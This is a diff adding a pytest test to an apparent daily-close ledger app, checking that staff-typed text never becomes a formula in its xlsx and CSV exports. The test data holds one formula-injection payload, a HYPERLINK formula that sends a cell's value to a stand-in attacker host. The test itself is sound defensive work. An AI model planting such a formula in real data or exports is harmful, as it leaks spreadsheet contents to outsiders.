@@ -439,3 +439,27 @@ def test_cli_close_day_and_report(tmp_path, loaded, capsys):
     assert _cli(["report", "day", *base, "--database", str(tmp_path / "nope.db"), "--date", DAY]) == 78
     assert not (tmp_path / "nope.db").exists()
     assert _cli(["report", "day", *base, "--date", DAY, "--xlsx", str(tmp_path / "no" / "dir.xlsx")]) == 74
+
+
+def test_text_typed_by_staff_never_becomes_a_formula_in_the_exports(ledger, dc, loaded, clock):
+    """CSV/formula injection: an adjustment reason typed on a page stays text
+    in the workbook and the CSV (OWASP: a leading apostrophe in CSV)."""
+    import io
+
+    import openpyxl
+
+    base_day(ledger, loaded.catalog)
+    dc.close(DAY, closed_by="K01", counted_cash=2390)
+    clock.when = at("2026-11-23", "10:00")
+    evil = '=HYPERLINK("http://evil.example/?"&B3,"詳細")'
+    dc.adjust(DAY, by="K07", reason=evil, amount=-300, account_code="13-02-03")
+    s = dc.sheet(DAY)
+    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(s)))
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == evil]
+    assert cells, "the reason is in the workbook"
+    assert all(c.data_type == "s" for c in cells)
+    # The only formulas are the workbook's own totals.
+    formulas = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas and all(f.startswith(("=SUM(", "=D", "=F")) for f in formulas), formulas
+    text = summary_csv(s).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
